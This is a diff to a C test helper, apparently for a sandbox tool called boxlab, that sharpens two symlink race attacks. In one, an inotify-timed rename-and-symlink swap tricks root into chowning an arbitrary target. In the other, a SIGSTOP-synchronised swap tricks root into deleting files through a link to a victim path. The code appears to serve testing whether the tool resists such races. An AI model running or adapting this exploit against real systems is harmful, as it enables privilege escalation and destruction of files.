@@ -5,16 +5,22 @@
  * and exits, printing what happened on stdout:
  *
  *   swapper chown STATE_ROOT TARGET
- *       As soon as the run directory lets it, rename RUN/merged away and put a link
- *       to TARGET in its place, hoping root then chowns `merged` by path (the link is
- *       followed: TARGET becomes this user's). Prints "swapped", or "refused ERRNO"
- *       when the run directory was gone before the rename ever succeeded.
+ *       Each time root changes the run directory or a name in it (IN_ATTRIB: a chown
+ *       or chmod), try to rename RUN/merged away and put a link to TARGET in its
+ *       place, hoping root then chowns `merged` by path (the link is followed: TARGET
+ *       becomes this user's). The test runs it at a real-time priority on the CPU
+ *       boxlab is pinned to, so it runs the moment it is woken, before root's next
+ *       step. Prints "swapped", or "refused ERRNO" when the run directory went away
+ *       before the rename ever succeeded.
  *
  *   swapper rm STATE_ROOT VICTIM N
  *       Once RUN/upper is this user's, make RUN/upper/b with files f0 .. fN-1 (the
- *       names VICTIM holds), and wait for root to delete the first of them (inotify
- *       IN_DELETE); then rename b away and put a link to VICTIM in its place, hoping
- *       root goes on deleting upper/b/f1 ... by path, through the link. Prints
+ *       names VICTIM holds), and wait for the remover to open b or delete one of
+ *       them (inotify IN_OPEN, IN_DELETE); then rename b away and put a link to VICTIM
+ *       in its place, hoping root goes on deleting upper/b/fK by path, through the
+ *       link. A remover
+ *       running as this user is stopped meanwhile (kill(-1, SIGSTOP) reaches every
+ *       process of ours), so the swap always lands in the middle of its work. Prints
  *       "ready" when the files are made and "swapped" after the swap.
  *
  * Each attack gives up after 20 s. Exit status 0 when it swapped, 1 when not.
@@ -23,6 +29,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -41,11 +48,12 @@ static void give_up_later(void)
 	}
 }
 
-/* Wait for a directory named bl-run-* to appear in ROOT; its path goes to RUN. */
-static void wait_for_run_dir(const char *root, char *run, size_t size)
+/* Wait for a directory named bl-run-* to appear in ROOT; its path goes to RUN. Returns
+ * the inotify descriptor, still watching ROOT (IN_DELETE then says the run is over). */
+static int wait_for_run_dir(const char *root, char *run, size_t size)
 {
 	int in = inotify_init1(IN_CLOEXEC);
-	if (in < 0 || inotify_add_watch(in, root, IN_CREATE | IN_ONLYDIR) < 0) {
+	if (in < 0 || inotify_add_watch(in, root, IN_CREATE | IN_DELETE | IN_ONLYDIR) < 0) {
 		perror("inotify");
 		exit(2);
 	}
@@ -60,10 +68,9 @@ static void wait_for_run_dir(const char *root, char *run, size_t size)
 		}
 		for (char *p = events; p < events + n;) {
 			struct inotify_event *e = (struct inotify_event *)p;
-			if (e->len && strncmp(e->name, "bl-run-", 7) == 0) {
+			if ((e->mask & IN_CREATE) && e->len && strncmp(e->name, "bl-run-", 7) == 0) {
 				snprintf(run, size, "%s/%s", root, e->name);
-				close(in);
-				return;
+				return in;
 			}
 			p += sizeof *e + e->len;
 		}
@@ -72,23 +79,30 @@ static void wait_for_run_dir(const char *root, char *run, size_t size)
 
 static int attack_chown(const char *root, const char *target)
 {
-	char run[PATH_MAX], merged[PATH_MAX], away[PATH_MAX];
-	wait_for_run_dir(root, run, sizeof run);
-	snprintf(merged, sizeof merged, "%s/merged", run);
-	snprintf(away, sizeof away, "%s/merged.away", run);
-	/* Spin: the rename succeeds the moment the directory is ours. */
-	for (int err = 0;;) {
-		if (rename(merged, away) == 0)
+	char run[PATH_MAX];
+	int in = wait_for_run_dir(root, run, sizeof run);
+	if (inotify_add_watch(in, run, IN_ATTRIB) < 0 || chdir(run) < 0) {
+		printf("refused %s\n", strerror(errno));
+		return 1;
+	}
+	char events[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
+	for (;;) {
+		/* Tried first: the directory may have been handed over before the watch. */
+		if (rename("merged", "merged.away") == 0)
 			break;
-		err = errno;
-		struct stat st;
-		if (stat(run, &st) < 0 || (err != EACCES && err != ENOENT && err != EPERM)) {
-			printf("refused %s\n", strerror(err));
-			return 1;
+		int err = errno;
+		ssize_t n = read(in, events, sizeof events);
+		for (char *p = events; n > 0 && p < events + n;) {
+			struct inotify_event *e = (struct inotify_event *)p;
+			if ((e->mask & IN_DELETE) && e->len && strcmp(run + strlen(root) + 1, e->name) == 0) {
+				printf("refused %s\n", strerror(err));
+				return 1;
+			}
+			p += sizeof *e + e->len;
 		}
 		give_up_later();
 	}
-	if (symlink(target, merged) < 0) {
+	if (symlink(target, "merged") < 0) {
 		printf("symlink failed %s\n", strerror(errno));
 		return 1;
 	}
@@ -99,7 +113,7 @@ static int attack_chown(const char *root, const char *target)
 static int attack_rm(const char *root, const char *victim, int count)
 {
 	char run[PATH_MAX], upper[PATH_MAX], b[PATH_MAX], away[PATH_MAX], f[PATH_MAX];
-	wait_for_run_dir(root, run, sizeof run);
+	close(wait_for_run_dir(root, run, sizeof run));
 	snprintf(upper, sizeof upper, "%s/upper", run);
 	snprintf(b, sizeof b, "%s/b", upper);
 	snprintf(away, sizeof away, "%s/b.away", upper);
@@ -121,7 +135,7 @@ static int attack_rm(const char *root, const char *victim, int count)
 		close(fd);
 	}
 	int in = inotify_init1(IN_CLOEXEC);
-	if (in < 0 || inotify_add_watch(in, b, IN_DELETE) < 0) {
+	if (in < 0 || inotify_add_watch(in, b, IN_OPEN | IN_DELETE) < 0) {
 		perror("inotify");
 		return 2;
 	}
@@ -132,8 +146,12 @@ static int attack_rm(const char *root, const char *victim, int count)
 		perror("read inotify");
 		return 2;
 	}
-	if (rename(b, away) < 0 || symlink(victim, b) < 0) {
-		printf("swap failed %s\n", strerror(errno));
+	kill(-1, SIGSTOP);
+	int failed = rename(b, away) < 0 || symlink(victim, b) < 0;
+	int err = errno;
+	kill(-1, SIGCONT);
+	if (failed) {
+		printf("swap failed %s\n", strerror(err));
 		return 1;
 	}
 	printf("swapped\n");
